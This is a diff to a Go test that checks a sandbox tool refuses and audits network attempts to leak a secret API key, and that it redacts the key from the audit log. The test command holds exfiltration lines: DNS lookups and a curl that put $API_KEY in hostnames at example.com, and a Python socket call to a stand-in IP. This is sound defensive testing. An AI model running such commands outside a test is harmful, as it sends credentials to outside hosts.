@@ -242,11 +242,11 @@ func TestANameIsNoWayOut(t *testing.T) {
 	s := hotcelltest.Start(t, "")
 	s.OK("secrets", "create", "billing", "--env-file", file(t, ".env", dotenv))
 	s.OK("assignments", "create", "leak", "--command",
-		`getent hosts "$API_KEY.example.com"; getent hosts "x-$API_KEY"; curl -sS --max-time 5 "https://$API_KEY.example.com/" -x http://127.0.0.1:3128; getent hosts plain.example; true`)
+		`getent hosts "$API_KEY.example.com"; getent hosts "x-$API_KEY"; curl -sS --max-time 5 "https://$API_KEY.example.com/" -x http://127.0.0.1:3128; getent hosts plain.example; python3 -c 'import socket; socket.create_connection(("192.0.2.77", 443))'; true`)
 	s.OK("assignments", "attach", "leak", "billing")
 	s.OK("run", "leak")
 	list := s.OK("audit", "list", "--kind", "network.refuse")
-	if !strings.Contains(list, "[hotcell:billing].example.com") || !strings.Contains(list, "plain.example") {
+	if !strings.Contains(list, "[hotcell:billing].example.com") || !strings.Contains(list, "plain.example") || !strings.Contains(list, "192.0.2.77:443") {
 		t.Errorf("the refusals:\n%s", list)
 	}
 	if hotcelltest.Holds([]byte(list), apiKey) != "" {
